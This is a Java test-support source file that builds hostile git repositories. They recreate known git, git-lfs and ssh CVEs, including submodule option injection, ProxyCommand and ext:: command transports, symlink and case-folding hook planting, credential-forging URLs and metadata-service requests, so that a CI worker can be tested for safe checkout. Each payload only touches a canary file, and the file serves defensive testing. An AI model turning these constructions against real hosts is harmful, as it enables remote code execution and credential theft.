package io.skypanel.worker.hostile;

import io.skypanel.worker.hostile.RawRepository.Entry;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.BiConsumer;
import java.util.stream.IntStream;

/**
 * Repositories that attack whoever checks them out: the known holes of git, git-lfs, ssh and CI
 * agents, each made anew in the folder of a git server. Whatever the end of a build of one, no
 * command of theirs may have run (it would make the canary), and nothing outside the workspace may
 * have been written or read.
 */
public final class HostileRepositories {
  /** A commit that no repository has. */
  private static final String NOWHERE = "1".repeat(40);

  /** What the host keeps to itself, in a file and among the LFS files of a repository. */
  public static final String SECRET = "the host's own s3cret";

  private static final String SECRET_OID = sha256(SECRET);

  private static final String POINTER =
      "version https://git-lfs.github.com/spec/v1\noid sha256:%s\nsize %d\n"
          .formatted(SECRET_OID, SECRET.length());

  private final Path root;
  private final String url;
  private final Path canary;
  private final Path outside;

  /**
   * @param root the folder that a git server serves
   * @param url that server's base
   * @param canary what each attack would make by {@code touch}
   * @param outside a folder that attacks would read from and write into, as {@link #prepare} makes
   *     it
   */
  public HostileRepositories(Path root, String url, Path canary, Path outside) {
    this.root = root;
    this.url = url;
    this.canary = canary;
    this.outside = outside;
  }

  /** Makes the folder that stands for all the host has: a file, and a repository with LFS files. */
  public static Path prepare(Path folder) throws IOException {
    Path outside = Files.createDirectory(folder.resolve("outside"));
    Files.writeString(outside.resolve("secret"), SECRET);
    RawRepository own = new RawRepository(outside.resolve(".git"));
    own.commit(own.file("a", "x"));
    Path objects =
        Files.createDirectories(
            outside
                .resolve(".git/lfs/objects")
                .resolve(SECRET_OID.substring(0, 2))
                .resolve(SECRET_OID.substring(2, 4)));
    Files.writeString(objects.resolve(SECRET_OID), SECRET);
    return outside;
  }

  private static String sha256(String text) {
    try {
      return HexFormat.of()
          .formatHex(
              MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8)));
    } catch (NoSuchAlgorithmException e) {
      throw new IllegalStateException(e);
    }
  }

  /** The names of all attacks. */
  public static List<String> names() {
    return List.copyOf(all().keySet());
  }

  /** Makes the repository of an attack, with the commit on main, and answers its address. */
  public String make(String name) {
    all().get(name).accept(this, new RawRepository(root.resolve(name + ".git")));
    return url + "/" + name + ".git";
  }

  /**
   * One large file that is named many times, which nothing but a bound of the worker's ends: no
   * attack for tests without one.
   *
   * @param bytes of each
   */
  public String makeOneFileOfManyNames(int bytes, int names) {
    RawRepository repository = new RawRepository(root.resolve("one-file-of-many-names.git"));
    Entry file = repository.file("x", "much ".repeat(bytes / 5));
    repository.commit(
        IntStream.range(0, names)
            .mapToObj(i -> new Entry(file.mode(), "x" + i, file.sha()))
            .toArray(Entry[]::new));
    return url + "/one-file-of-many-names.git";
  }

  private static Map<String, BiConsumer<HostileRepositories, RawRepository>> all() {
    Map<String, BiConsumer<HostileRepositories, RawRepository>> all = new LinkedHashMap<>();
    all.put("submodule-url-is-an-option", HostileRepositories::submoduleUrlIsAnOption);
    all.put("submodule-short-option", HostileRepositories::submoduleShortOption);
    all.put("submodule-path-is-an-option", HostileRepositories::submodulePathIsAnOption);
    all.put("submodule-name-climbs-out", HostileRepositories::submoduleNameClimbsOut);
    all.put("submodule-name-nests-in-hooks", HostileRepositories::submoduleNameNestsInHooks);
    all.put("submodule-path-in-dot-git", HostileRepositories::submodulePathInDotGit);
    all.put("submodule-path-climbs-out", HostileRepositories::submodulePathClimbsOut);
    all.put("submodule-path-by-symlink", HostileRepositories::submodulePathBySymlink);
    all.put(
        "submodule-path-ends-in-carriage-return",
        HostileRepositories::submodulePathEndsInCarriageReturn);
    all.put("submodule-in-case-folded-link", HostileRepositories::submoduleInCaseFoldedLink);
    all.put("submodule-updates-by-command", HostileRepositories::submoduleUpdatesByCommand);
    all.put("submodule-by-ext", HostileRepositories::submoduleByExt);
    all.put("submodule-by-fd", HostileRepositories::submoduleByFd);
    all.put("submodule-by-file", HostileRepositories::submoduleByFile);
    all.put("submodule-by-path", HostileRepositories::submoduleByPath);
    all.put("submodule-by-relative-path", HostileRepositories::submoduleByRelativePath);
    all.put("submodule-by-git-protocol", HostileRepositories::submoduleByGitProtocol);
    all.put("submodule-by-ftp", HostileRepositories::submoduleByFtp);
    all.put("submodule-of-metadata", HostileRepositories::submoduleOfMetadata);
    all.put("submodule-of-metadata-in-hex", HostileRepositories::submoduleOfMetadataInHex);
    all.put("submodule-of-mapped-metadata", HostileRepositories::submoduleOfMappedMetadata);
    all.put("submodule-host-is-an-ssh-option", HostileRepositories::submoduleHostIsAnSshOption);
    all.put("submodule-host-is-a-command", HostileRepositories::submoduleHostIsACommand);
    all.put(
        "submodule-url-forges-a-credential", HostileRepositories::submoduleUrlForgesACredential);
    all.put("submodule-url-without-host", HostileRepositories::submoduleUrlWithoutHost);
    all.put("submodule-config-overflows", HostileRepositories::submoduleConfigOverflows);
    all.put("submodule-without-entry", HostileRepositories::submoduleWithoutEntry);
    all.put("gitmodules-is-a-link", HostileRepositories::gitmodulesIsALink);
    all.put("gitmodules-is-no-configuration", HostileRepositories::gitmodulesIsNoConfiguration);
    all.put("hook-in-dot-git", HostileRepositories::hookInDotGit);
    all.put("hook-in-upper-case-dot-git", HostileRepositories::hookInUpperCaseDotGit);
    all.put("hook-in-ignorable-dot-git", HostileRepositories::hookInIgnorableDotGit);
    all.put("hook-in-short-named-dot-git", HostileRepositories::hookInShortNamedDotGit);
    all.put("file-with-backslashes", HostileRepositories::fileWithBackslashes);
    all.put("file-above", HostileRepositories::fileAbove);
    all.put("file-behind-a-link", HostileRepositories::fileBehindALink);
    all.put("filtered-file-in-case-folded-link", HostileRepositories::filteredFileInCaseFoldedLink);
    all.put("attributes-name-a-filter", HostileRepositories::attributesNameAFilter);
    all.put("attributes-are-a-link", HostileRepositories::attributesAreALink);
    all.put("attributes-overflow", HostileRepositories::attributesOverflow);
    all.put("attributes-name-an-encoding", HostileRepositories::attributesNameAnEncoding);
    all.put("bare-repository-inside", HostileRepositories::bareRepositoryInside);
    all.put("bare-repository-at-the-top", HostileRepositories::bareRepositoryAtTheTop);
    all.put("lfs-by-own-program", HostileRepositories::lfsByOwnProgram);
    all.put("lfs-by-file", HostileRepositories::lfsByFile);
    all.put("lfs-by-path", HostileRepositories::lfsByPath);
    all.put("lfs-host-is-an-ssh-option", HostileRepositories::lfsHostIsAnSshOption);
    all.put("lfs-host-is-a-command", HostileRepositories::lfsHostIsACommand);
    all.put("lfs-of-metadata", HostileRepositories::lfsOfMetadata);
    all.put("lfs-url-forges-a-credential", HostileRepositories::lfsUrlForgesACredential);
    all.put("lfs-left-to-a-link", HostileRepositories::lfsLeftToALink);
    all.put("lfs-config-is-a-link", HostileRepositories::lfsConfigIsALink);
    all.put("links-out", HostileRepositories::linksOut);
    all.put("file-names-that-are-options", HostileRepositories::fileNamesThatAreOptions);
    all.put("folders-deeper-than-a-path", HostileRepositories::foldersDeeperThanAPath);
    all.put("folders-deeper-than-a-stack", HostileRepositories::foldersDeeperThanAStack);
    all.put("blob-grows-by-a-delta", HostileRepositories::blobGrowsByADelta);
    all.put("trees-of-equal-trees", HostileRepositories::treesOfEqualTrees);
    return all;
  }

  /** 16 KB that become 5 GB where git makes an object of them. */
  void blobGrowsByADelta(RawRepository repository) {
    repository.commit(DeltaBomb.in(repository));
  }

  /** Ten levels of ten equal trees: ten thousand million files. */
  void treesOfEqualTrees(RawRepository repository) {
    Entry[] level = tenOf(repository.file("x", "x"));
    for (int i = 1; i < 10; i++) {
      level = tenOf(repository.folder("x", level));
    }
    repository.commit(level);
  }

  private static Entry[] tenOf(Entry one) {
    return IntStream.range(0, 10)
        .mapToObj(i -> new Entry(one.mode(), "x" + i, one.sha()))
        .toArray(Entry[]::new);
  }

  /** CVE-2018-17456: the url of a submodule is read as an option of git clone. */
  void submoduleUrlIsAnOption(RawRepository repository) {
    submodule(repository, "sub", "sub", "--upload-pack=touch " + canary, NOWHERE);
  }

  /** The same by a short option and a path that looks like a repository. */
  void submoduleShortOption(RawRepository repository) {
    submodule(
        repository, "sub", "sub", "-u./payload", NOWHERE, repository.program("payload", touch()));
  }

  /** CVE-2018-17456: the path of a submodule is read as an option. */
  void submodulePathIsAnOption(RawRepository repository) {
    submodule(
        repository,
        "sub",
        "--upload-pack=touch " + canary.getFileName(),
        url + "/payload.git",
        payload());
  }

  /** CVE-2018-11235: the name of a submodule leads to a git folder of the repository's own. */
  void submoduleNameClimbsOut(RawRepository repository) {
    submodule(
        repository,
        "../../evil",
        "sub",
        url + "/payload.git",
        payload(),
        repository.folder("evil", gitFolder(repository)));
  }

  /** CVE-2019-1387: one submodule's git folder lies in the hooks of another's. */
  void submoduleNameNestsInHooks(RawRepository repository) {
    repository.commit(
        repository.file(
            ".gitmodules",
            section("x", "x", url + "/payload.git")
                + section("x/hooks", "y", url + "/payload.git")),
        repository.submodule("x", payload()),
        repository.submodule("y", payload()));
  }

  /** A submodule that is checked out into the git folder's hooks. */
  void submodulePathInDotGit(RawRepository repository) {
    String commit = payload();
    repository.commit(
        repository.file(".gitmodules", section("sub", ".git/hooks", url + "/payload.git")),
        repository.folder(".git", repository.submodule("hooks", commit)));
  }

  /** A submodule that is checked out beside the workspace. */
  void submodulePathClimbsOut(RawRepository repository) {
    String commit = payload();
    repository.commit(
        repository.file(".gitmodules", section("sub", "../../outside/sub", url + "/payload.git")),
        repository.folder(
            "..",
            repository.folder(
                "..", repository.folder("outside", repository.submodule("sub", commit)))));
  }

  /** A submodule that lies behind a link to a folder outside. */
  void submodulePathBySymlink(RawRepository repository) {
    String commit = payload();
    repository.commit(
        repository.file(".gitmodules", section("sub", "link/sub", url + "/payload.git")),
        repository.link("link", outside.toString()),
        repository.folder("link", repository.submodule("sub", commit)));
  }

  /** CVE-2025-48384: a path that ends in CR is written to the configuration without it. */
  void submodulePathEndsInCarriageReturn(RawRepository repository) {
    String commit = payload();
    repository.commit(
        repository.file(
            ".gitmodules",
            "[submodule \"sub\"]\n\tpath = \"sub\r\"\n\turl = " + url + "/payload.git\n"),
        repository.link("sub", ".git/modules/sub/hooks"),
        repository.submodule("sub\r", commit));
  }

  /** CVE-2024-32002: a submodule below A, and a link a to the git folder. */
  void submoduleInCaseFoldedLink(RawRepository repository) {
    String commit = payload();
    repository.commit(
        repository.file(".gitmodules", section("x/y", "A/modules/x", url + "/payload.git")),
        repository.link("a", ".git"),
        repository.folder("A", repository.folder("modules", repository.submodule("x", commit))));
  }

  /** CVE-2019-19604: a submodule that is updated by a command. */
  void submoduleUpdatesByCommand(RawRepository repository) {
    repository.commit(
        repository.file(
            ".gitmodules",
            section("sub", "sub", url + "/payload.git") + "\tupdate = !touch " + canary + "\n"),
        repository.submodule("sub", payload()));
  }

  /** A submodule by a transport that is a command. */
  void submoduleByExt(RawRepository repository) {
    submodule(repository, "sub", "sub", "ext::sh -c touch% " + canary, NOWHERE);
  }

  /** A submodule by a transport that is an open file of the worker's git. */
  void submoduleByFd(RawRepository repository) {
    submodule(repository, "sub", "sub", "fd::0,1/foo", NOWHERE);
  }

  /** A submodule that is a folder of this machine, by URL. */
  void submoduleByFile(RawRepository repository) {
    submodule(repository, "sub", "sub", "file://" + outside, NOWHERE);
  }

  /** CVE-2022-39253: a submodule that is a folder of this machine, by path. */
  void submoduleByPath(RawRepository repository) {
    submodule(repository, "sub", "sub", outside.toString(), NOWHERE);
  }

  /** A submodule whose relative address climbs over the server's root. */
  void submoduleByRelativePath(RawRepository repository) {
    submodule(repository, "sub", "sub", "../../../../../../.." + outside, NOWHERE);
  }

  /** A submodule by the unencrypted protocol of git. */
  void submoduleByGitProtocol(RawRepository repository) {
    submodule(repository, "sub", "sub", "git://127.0.0.1/sub.git", NOWHERE);
  }

  /** A submodule by ftp. */
  void submoduleByFtp(RawRepository repository) {
    submodule(repository, "sub", "sub", "ftp://127.0.0.1/sub.git", NOWHERE);
  }

  /** A submodule at the metadata service. */
  void submoduleOfMetadata(RawRepository repository) {
    submodule(repository, "sub", "sub", "http://169.254.169.254/latest/meta-data", NOWHERE);
  }

  /** The same with the address as a number. */
  void submoduleOfMetadataInHex(RawRepository repository) {
    submodule(repository, "sub", "sub", "http://0xa9fea9fe/latest/meta-data", NOWHERE);
  }

  /** The same by an IPv6 address that holds an IPv4 one. */
  void submoduleOfMappedMetadata(RawRepository repository) {
    submodule(repository, "sub", "sub", "http://[::ffff:169.254.169.254]/latest", NOWHERE);
  }

  /** CVE-2017-1000117: the host of an ssh address is read as an option of ssh. */
  void submoduleHostIsAnSshOption(RawRepository repository) {
    submodule(repository, "sub", "sub", "ssh://-oProxyCommand=touch%20" + canary + "/sub", NOWHERE);
  }

  /** CVE-2023-51385: the host of an ssh address is read by the shell of ProxyCommand. */
  void submoduleHostIsACommand(RawRepository repository) {
    submodule(
        repository,
        "sub",
        "sub",
        "ssh://`touch${IFS}" + canary.getFileName() + "`.example.com/sub",
        NOWHERE);
  }

  /** CVE-2020-5260: an encoded line break in an address asks for another host's credential. */
  void submoduleUrlForgesACredential(RawRepository repository) {
    submodule(
        repository,
        "sub",
        "sub",
        url.replace("://", "://evil%0ahost=github.com@") + "/payload.git",
        NOWHERE);
  }

  /** CVE-2020-11008: an address without a host asks for any host's credential. */
  void submoduleUrlWithoutHost(RawRepository repository) {
    submodule(repository, "sub", "sub", "http:///sub.git", NOWHERE);
  }

  /** CVE-2023-29007: a line too long for git's buffer puts what follows into the configuration. */
  void submoduleConfigOverflows(RawRepository repository) {
    submodule(
        repository,
        "sub",
        "sub",
        url + "/" + "a".repeat(1100) + "[core]fsmonitor=\\\"touch " + canary + "\\\"",
        NOWHERE);
  }

  /** A submodule that .gitmodules does not know. */
  void submoduleWithoutEntry(RawRepository repository) {
    repository.commit(repository.file(".gitmodules", ""), repository.submodule("sub", NOWHERE));
  }

  /** .gitmodules is a link to a file outside. */
  void gitmodulesIsALink(RawRepository repository) {
    repository.commit(
        repository.link(".gitmodules", outside.resolve("secret").toString()),
        repository.submodule("sub", NOWHERE));
  }

  /** .gitmodules is garbage. */
  void gitmodulesIsNoConfiguration(RawRepository repository) {
    repository.commit(
        repository.file(".gitmodules", "[submodule \"x\n\0"), repository.submodule("sub", NOWHERE));
  }

  /** A tree with a hook in .git. */
  void hookInDotGit(RawRepository repository) {
    repository.commit(
        repository.folder(
            ".git", repository.folder("hooks", repository.program("post-checkout", touch()))));
  }

  /** CVE-2014-9390: a tree with a hook in .GIT. */
  void hookInUpperCaseDotGit(RawRepository repository) {
    repository.commit(
        repository.folder(
            ".GIT", repository.folder("hooks", repository.program("post-checkout", touch()))));
  }

  /** CVE-2014-9390: .git with a character that HFS+ does not see. */
  void hookInIgnorableDotGit(RawRepository repository) {
    repository.commit(
        repository.folder(
            ".g\u200cit",
            repository.folder("hooks", repository.program("post-checkout", touch()))));
  }

  /** CVE-2019-1352, 1349: the names that NTFS has for .git. */
  void hookInShortNamedDotGit(RawRepository repository) {
    repository.commit(
        repository.folder(
            "git~1", repository.folder("hooks", repository.program("post-checkout", touch()))),
        repository.folder(".git::$INDEX_ALLOCATION", repository.program("config", touch())));
  }

  /** CVE-2019-1354: a file whose name climbs out on Windows. */
  void fileWithBackslashes(RawRepository repository) {
    repository.commit(repository.file("..\\..\\outside\\written", "x"));
  }

  /** A tree with an entry for the folder above. */
  void fileAbove(RawRepository repository) {
    repository.commit(
        repository.folder(
            "..",
            repository.folder(
                "..", repository.folder("outside", repository.file("written", "x")))));
  }

  /** A tree that has one name twice: a link out, and a folder with a file. */
  void fileBehindALink(RawRepository repository) {
    repository.commit(
        repository.link("link", outside.toString()),
        repository.folder("link", repository.file("written", "x")));
  }

  /** CVE-2021-21300: a delayed LFS file below A, and a link a to the hooks. */
  void filteredFileInCaseFoldedLink(RawRepository repository) {
    repository.commit(
        repository.file(".gitattributes", "A/post-checkout filter=lfs diff=lfs merge=lfs\n"),
        repository.link("a", ".git/hooks"),
        repository.folder("A", repository.program("post-checkout", touch())));
  }

  /** A filter that only a configuration in the tree defines. */
  void attributesNameAFilter(RawRepository repository) {
    String config = "[filter \"evil\"]\n\tsmudge = touch " + canary + "\n\trequired\n";
    repository.commit(
        repository.file(".gitattributes", "* filter=evil diff=evil merge=evil ident eol=crlf\n"),
        repository.file(".gitconfig", config),
        repository.folder(".config", repository.folder("git", repository.file("config", config))));
  }

  /** .gitattributes is a link to a device that never ends. */
  void attributesAreALink(RawRepository repository) {
    repository.commit(repository.link(".gitattributes", "/dev/zero"), repository.file("a", "x"));
  }

  /** CVE-2022-23521: attributes with lines and names beyond bounds. */
  void attributesOverflow(RawRepository repository) {
    repository.commit(
        repository.file(
            ".gitattributes",
            "a".repeat(5000) + " x\n" + "b ".repeat(3) + "attr".repeat(100_000) + "\n"),
        repository.file("a", "x"));
  }

  /** A file in an encoding that it is not in. */
  void attributesNameAnEncoding(RawRepository repository) {
    repository.commit(
        repository.file(".gitattributes", "* working-tree-encoding=UTF-7\n"),
        repository.file("a", "\u0001\u00ff"));
  }

  /** A bare repository in the tree, whose configuration runs a command. */
  void bareRepositoryInside(RawRepository repository) {
    repository.commit(
        repository.folder("bare.git", gitFolder(repository)), repository.file("bare.git.txt", "x"));
  }

  /** The tree itself is one, so that git in it reads its configuration. */
  void bareRepositoryAtTheTop(RawRepository repository) {
    repository.commit(gitFolder(repository));
  }

  /** LFS files by a program that .lfsconfig names. */
  void lfsByOwnProgram(RawRepository repository) {
    lfs(
        repository,
        "[lfs]\n\turl = "
            + url
            + "/lfs\n\tstandalonetransferagent = evil\n"
            + "[lfs \"customtransfer.evil\"]\n\tpath = touch\n\targs = "
            + canary
            + "\n"
            + "[lfs \"extension.evil\"]\n\tclean = touch "
            + canary
            + "\n\tsmudge = touch "
            + canary
            + "\n\tpriority = 0\n"
            + "[core]\n\tsshCommand = touch "
            + canary
            + "\n[credential]\n\thelper = !touch "
            + canary
            + "\n");
  }

  /** LFS files out of a folder of this machine. */
  void lfsByFile(RawRepository repository) {
    lfs(repository, "[lfs]\n\turl = file://" + outside + "\n");
  }

  /** The same by path. */
  void lfsByPath(RawRepository repository) {
    lfs(
        repository,
        "[lfs]\n\turl = " + outside + "\n[remote \"origin\"]\n\tlfsurl = " + outside + "\n");
  }

  /** CVE-2017-17831: the host of an LFS server is read as an option of ssh. */
  void lfsHostIsAnSshOption(RawRepository repository) {
    lfs(repository, "[lfs]\n\turl = ssh://-oProxyCommand=touch%20" + canary + "/x\n");
  }

  /** The host of an LFS server is read by a shell. */
  void lfsHostIsACommand(RawRepository repository) {
    lfs(repository, "[lfs]\n\turl = \"ssh://git@$(touch${IFS}" + canary + ")/x\"\n");
  }

  /** LFS files of the metadata service. */
  void lfsOfMetadata(RawRepository repository) {
    lfs(repository, "[lfs]\n\turl = http://169.254.169.254/latest/meta-data\n");
  }

  /** CVE-2024-53263: line breaks in an address forge what a credential helper is asked. */
  void lfsUrlForgesACredential(RawRepository repository) {
    lfs(
        repository,
        "[lfs]\n\turl = "
            + url.replace("://", "://u%0Aprotocol=https%0Ahost=github.com%0Ausername=@")
            + "/lfs\n");
  }

  /** CVE-2025-26625: a tree that has one name twice, so that an LFS file lies behind a link. */
  void lfsLeftToALink(RawRepository repository) {
    repository.commit(
        repository.file(".gitattributes", "* filter=lfs -text\n"),
        repository.link("link", outside.toString()),
        repository.folder("link", repository.file("written.bin", POINTER)));
  }

  /** .lfsconfig is a link to a device that never ends. */
  void lfsConfigIsALink(RawRepository repository) {
    repository.commit(
        repository.file(".gitattributes", "*.bin filter=lfs\n"),
        repository.link(".lfsconfig", "/dev/zero"),
        repository.file("a.bin", POINTER));
  }

  /** Links to a file and a folder outside, and to themselves. */
  void linksOut(RawRepository repository) {
    repository.commit(
        repository.link("secret", outside.resolve("secret").toString()),
        repository.link("folder", outside.toString()),
        repository.link("loop", "loop"),
        repository.link("up", "../../../../../../../../etc/passwd"));
  }

  /** Files whose names are options of the programs that may come by. */
  void fileNamesThatAreOptions(RawRepository repository) {
    repository.commit(
        repository.program("--checkpoint-action=exec=sh", touch()),
        repository.file("-rf", "x"),
        repository.file("a\nb", "x"),
        repository.file("\u001b[31mred", "x"));
  }

  /** A path that git can name from the work tree, and nobody from the root. */
  void foldersDeeperThanAPath(RawRepository repository) {
    repository.commitAt("d/".repeat(2040) + "f");
  }

  /** A path that has a name, with more folders than whoever goes into them by recursion can. */
  void foldersDeeperThanAStack(RawRepository repository) {
    repository.commitAt("d/".repeat(1800) + "f");
  }

  private void lfs(RawRepository repository, String config) {
    repository.commit(
        repository.file(".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n"),
        repository.file(".lfsconfig", config),
        repository.file("a.bin", POINTER));
  }

  private static void submodule(
      RawRepository repository,
      String name,
      String path,
      String address,
      String commit,
      Entry... others) {
    List<Entry> entries = new ArrayList<>(List.of(others));
    entries.add(repository.file(".gitmodules", section(name, path, address)));
    entries.add(repository.submodule(path, commit));
    repository.commit(entries.toArray(Entry[]::new));
  }

  private static String section(String name, String path, String address) {
    return "[submodule \"%s\"]\n\tpath = %s\n\turl = \"%s\"\n".formatted(name, path, address);
  }

  /** A harmless-looking repository whose files are hooks, wherever they come to lie. */
  private String payload() {
    Path bare = root.resolve("payload.git");
    RawRepository payload = new RawRepository(bare);
    Entry hook = payload.program("post-checkout", touch());
    return payload.commit(
        hook, payload.folder("hooks", hook), payload.folder("y", payload.folder("hooks", hook)));
  }

  /** What makes a folder a repository, with a configuration that runs a command. */
  private Entry[] gitFolder(RawRepository repository) {
    String config =
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n\tfsmonitor = \"touch "
            + canary
            + "\"\n\thooksPath = hooks\n";
    return new Entry[] {
      repository.file("HEAD", "ref: refs/heads/main\n"),
      repository.file("config", config),
      repository.folder("hooks", repository.program("post-checkout", touch())),
      repository.folder("objects", repository.file(".keep", "")),
      repository.folder("refs", repository.file(".keep", "")),
    };
  }

  private String touch() {
    return "#!/bin/sh\ntouch " + canary + "\n";
  }
}
